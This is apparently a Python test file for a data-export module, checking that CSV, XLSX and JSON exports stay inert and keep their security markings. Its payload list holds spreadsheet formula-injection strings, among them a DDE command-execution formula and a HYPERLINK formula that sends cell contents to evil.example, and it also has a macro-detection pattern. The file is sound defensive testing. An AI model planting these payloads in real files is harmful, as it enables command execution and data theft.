"""Each format holds every cell and every marking, and nothing in it can be run."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from xlsxwriter import Workbook

from partnership.exports import as_csv as csv_writer
from partnership.exports.as_csv import as_csv
from partnership.exports.as_json import as_json
from partnership.exports.as_xlsx import CUT, LONGEST_TEXT, as_xlsx
from partnership.exports.rules import as_told, could_be_formula, printable
from partnership.people.rules import Marking
from partnership.records.rules import Handling, Release

LISTS = Path(__file__).parents[5] / "shared/data/hostile"
ASK_FIRST = Release(Marking.OFFICIAL_SENSITIVE, Handling.CONDITIONAL, "=Ask first.\nTell nobody.")
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")
HOSTILE = (
    *("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", " =1", '"=1', "'=1"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"x")', '","=1+1","', '"\r\n"=1+1', "x,=1", "x;=1"),
    *("https://evil.example", "internal:About!A1", "{=1+1}", "TRUE", "1e5", "007", "1/2", "#REF!", "<r>x<</r>"),
    *("<r><t>=1</t></r>", "_x0041_", "</t></si></sst>", "a\x00b", "\x00=1", "a\ud800b", "\ufffe", "\u202e=1", "  x "),
)
MOMENT = datetime(2026, 11, 24, 10, tzinfo=timezone(timedelta(hours=5)))


def fields_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def as_typed(field: str) -> str:
    """A field without the apostrophe that was put before it."""
    return field[1:] if field[:1] == "'" and could_be_formula(field[1:]) else field


def formulas_in_csv(data: bytes) -> list[str]:
    return [field for row in fields_of(data) for field in row if field.lstrip(' "').startswith(DANGEROUS)]


def cells_of(data: bytes, sheet: str) -> list[list[openpyxl.cell.Cell]]:
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(data))[sheet].iter_rows()]


def formulas_in_xlsx(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    return [str(cell.value) for cell in cells if cell.data_type == "f" or cell.hyperlink]


def lines_of(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_no_hostile_text_is_a_formula_in_a_csv_and_each_can_be_read_again(table_of, about_of):
    table = table_of(*([text] for text in HOSTILE))

    data = as_csv(about_of(table), [table])

    assert formulas_in_csv(data) == []
    assert [as_typed(row[0]) for row in fields_of(data)[1:]] == [printable(text) for text in HOSTILE]


def test_no_hostile_text_is_a_formula_in_a_workbook_and_each_can_be_read_again(table_of, about_of):
    table = table_of(*([text] for text in HOSTILE))

    data = as_xlsx(about_of(table, title=HOSTILE[0], because=HOSTILE[0]), [table])

    assert formulas_in_xlsx(data) == []
    cells = [row[0] for row in cells_of(data, "things")[1:]]
    assert [cell.value for cell in cells] == [lines_of(printable(text)) for text in HOSTILE]
    assert {(cell.data_type, cell.quotePrefix) for cell in cells} == {("s", True)}


def test_the_public_list_is_inert_in_both_and_whole_in_all(table_of, about_of):
    if not (LISTS / "blns.json").exists():
        pytest.skip("blns.json is not beside the repository; our own list has run")
    texts = [text for text in json.loads((LISTS / "blns.json").read_text()) if text]
    table = table_of(*([text] for text in texts))
    about = about_of(table)

    told_csv, told_xlsx, told_json = as_csv(about, [table]), as_xlsx(about, [table]), as_json(about, [table])

    assert formulas_in_csv(told_csv) == []
    assert formulas_in_xlsx(told_xlsx) == []
    assert [as_typed(row[0]) for row in fields_of(told_csv)[1:]] == [printable(text) for text in texts]
    assert [row[0].value for row in cells_of(told_xlsx, "things")[1:]] == [lines_of(printable(text)) for text in texts]
    assert [row["first"] for row in json.loads(told_json)["tables"]["things"]] == texts


def test_a_csv_that_leaves_text_as_it_is_would_be_found(table_of, about_of, monkeypatch):
    table = table_of(["=1+1"], ["＋1"], [' "@x'], ["fine"])
    monkeypatch.setattr(csv_writer, "neutral", lambda text: text)

    assert formulas_in_csv(as_csv(about_of(table), [table])) == ["=1+1", "＋1", ' "@x']


def test_a_workbook_that_takes_text_for_formulas_and_links_would_be_found():
    file = io.BytesIO()
    with Workbook(file) as book:
        book.add_worksheet("things").write_column(0, 0, ["=1+1", "https://evil.example", "fine"])

    assert formulas_in_xlsx(file.getvalue()) == ["=1+1", "https://evil.example"]


NUMBERS = st.integers(-(2**53), 2**53) | st.floats(allow_nan=False, allow_infinity=False)
DAYS = st.dates() | st.datetimes(timezones=st.just(UTC))
CELLS = st.text(st.characters(exclude_categories=()), max_size=30) | NUMBERS | DAYS | st.none()


@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=5))
@settings(deadline=None)
def test_whatever_is_in_its_cells_a_csv_is_read_again_cell_for_cell(table_of, about_of, rows):
    table = table_of(*rows)

    head, *read = fields_of(as_csv(about_of(table), [table]))

    assert tuple(head) == table.head
    for row, line in zip(read, table.lines, strict=True):
        assert [as_typed(field) for field in row] == [read_again(cell) for cell in line]


def read_again(cell) -> str:
    told = as_told(cell)
    return "" if told is None else printable(told) if isinstance(told, str) else repr(told)


@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=5))
@settings(deadline=None)
def test_whatever_is_in_its_cells_json_is_read_again_exactly(table_of, about_of, rows):
    table = table_of(*rows)

    told = json.loads(as_json(about_of(table), [table]))["tables"]["things"]

    assert [tuple(row) for row in told] == [table.head] * len(rows)
    assert [list(row.values()) for row in told] == [[as_told(cell) for cell in line] for line in table.lines]


@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=3))
@settings(deadline=None, max_examples=40)
def test_whatever_is_in_its_cells_a_workbook_opens_and_runs_nothing(table_of, about_of, rows):
    table = table_of(*rows)

    data = as_xlsx(about_of(table), [table])

    assert formulas_in_xlsx(data) == []
    assert len(cells_of(data, "things")) == len(rows) + 1


def test_numbers_stay_numbers_also_below_nothing(table_of, about_of):
    table = table_of([-1.5, 3, None])

    assert as_csv(about_of(table), [table]).decode("utf-8-sig").splitlines()[1].startswith('-1.5,3,"",')
    assert [cell.value for cell in cells_of(as_xlsx(about_of(table), [table]), "things")[1][:3]] == [-1.5, 3, None]


@pytest.mark.parametrize(
    ("number", "told"), [(float("nan"), "nan"), (float("inf"), "inf"), (2**53 + 1, str(2**53 + 1))]
)
def test_a_number_that_a_spreadsheet_cannot_hold_is_text(table_of, about_of, number, told):
    table = table_of([number])

    assert cells_of(as_xlsx(about_of(table), [table]), "things")[1][0].value == told
    assert fields_of(as_csv(about_of(table), [table]))[1][0] == told
    assert str(json.loads(as_json(about_of(table), [table]))["tables"]["things"][0]["first"]) == told


def test_days_are_days_and_moments_say_their_zone(table_of, about_of):
    table = table_of([date(2026, 7, 1), MOMENT, date(1066, 10, 14)])

    cells = cells_of(as_xlsx(about_of(table), [table]), "things")[1]

    assert (cells[0].is_date, cells[0].value.date()) == (True, date(2026, 7, 1))
    assert [cell.value for cell in cells[1:3]] == ["2026-11-24T05:00:00+00:00", "1066-10-14"]
    assert fields_of(as_csv(about_of(table), [table]))[1][:2] == ["2026-07-01", "2026-11-24T05:00:00+00:00"]


def test_a_text_too_long_for_a_cell_is_cut_and_says_so_and_is_whole_elsewhere(table_of, about_of):
    long = "😀" * LONGEST_TEXT
    table = table_of([long])

    told = cells_of(as_xlsx(about_of(table), [table]), "things")[1][0].value

    assert told.endswith(CUT)
    assert len(told.encode("utf-16-le")) // 2 <= LONGEST_TEXT
    assert long in as_csv(about_of(table), [table]).decode()


def test_every_row_of_every_format_carries_its_own_marking(table_of, about_of):
    tables = [table_of(["x"], name="open"), table_of(["y"], release=ASK_FIRST, name="close")]
    about = about_of(*tables)
    held = ["OFFICIAL-SENSITIVE", "C", ASK_FIRST.conditions, "Force"]

    assert [as_typed(field) for field in fields_of(as_csv(about, tables))[2][-4:]] == held
    assert [cell.value for cell in cells_of(as_xlsx(about, tables), "close")[1][-4:]] == held
    told = json.loads(as_json(about, tables))["tables"]
    assert list(told["close"][0].values())[-4:] == held
    assert told["open"][0]["marking"] == "OFFICIAL"


def test_several_tables_are_one_csv_that_names_each_rows(table_of, about_of):
    tables = [table_of(["x", 1], name="one"), table_of(["y"], columns=("second",), name="two")]

    head, *rows = fields_of(as_csv(about_of(*tables), tables))

    assert head[:3] == ["table", "first", "second"]
    assert [row[:3] for row in rows] == [["one", "x", "1"], ["two", "", "y"]]


def test_a_csv_ends_its_lines_and_begins_as_excel_needs_it(table_of, about_of):
    table = table_of(["Łódź"])

    data = as_csv(about_of(table), [table])

    assert data.startswith(b'\xef\xbb\xbf"first"')
    assert data.count(b"\r\n") == data.count(b"\n") == 2


def test_the_first_sheet_says_what_the_file_is_and_every_printed_page_its_marking(table_of, about_of):
    table = table_of(["x"], release=ASK_FIRST)

    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(about_of(table, left_out=2, note="Take care."), [table])))

    assert book.sheetnames == ["About", "things"]
    told = {row[0].value: row[1].value for row in book["About"].iter_rows()}
    assert (told["marking"], told["handling"], told["conditions"]) == ("OFFICIAL-SENSITIVE", "C", ASK_FIRST.conditions)
    assert (told["recipient"], told["because"]) == ("R. Cipient, Charity", "They run the refuge")
    assert (told["exported by"], told["exported at"]) == ("Force", "2026-11-24T10:15:30+00:00")
    assert (told["rows in things"], told["rows left out"], told["read with care"]) == (1, 2, "Take care.")
    for sheet in book:
        assert {sheet.oddHeader.center.text, sheet.oddFooter.center.text} == {"OFFICIAL-SENSITIVE"}
    assert book["things"].freeze_panes == "A2"


def test_json_says_the_same_of_itself_and_nothing_of_what_was_not_left_out(table_of, about_of):
    table = table_of(["x"])

    about = json.loads(as_json(about_of(table), [table]))["about"]

    assert about["marking"] == "OFFICIAL"
    assert about["recipient"] == "R. Cipient, Charity"
    assert "rows_left_out" not in about


@pytest.mark.parametrize("write", [as_csv, as_json, as_xlsx])
def test_the_same_contents_give_the_same_bytes(table_of, about_of, write):
    table = table_of(["x", 1.5, date(2026, 7, 1)])

    assert write(about_of(table), [table]) == write(about_of(table), [table])


def test_a_workbook_holds_no_macro_and_leads_nowhere(table_of, about_of):
    table = table_of(["=1+1", "https://evil.example", "x"])

    with zipfile.ZipFile(io.BytesIO(as_xlsx(about_of(table), [table]))) as packed:
        names, texts = packed.namelist(), b"".join(packed.read(name) for name in packed.namelist())

    assert not [name for name in names if re.search("vba|macro|external|connection|embed", name, re.IGNORECASE)]
    assert b"TargetMode" not in texts
    assert b"<f>" not in texts


def test_json_is_plain_ascii(table_of, about_of):
    table = table_of(["\u202egnp\u2028"])

    assert as_json(about_of(table), [table]).isascii()
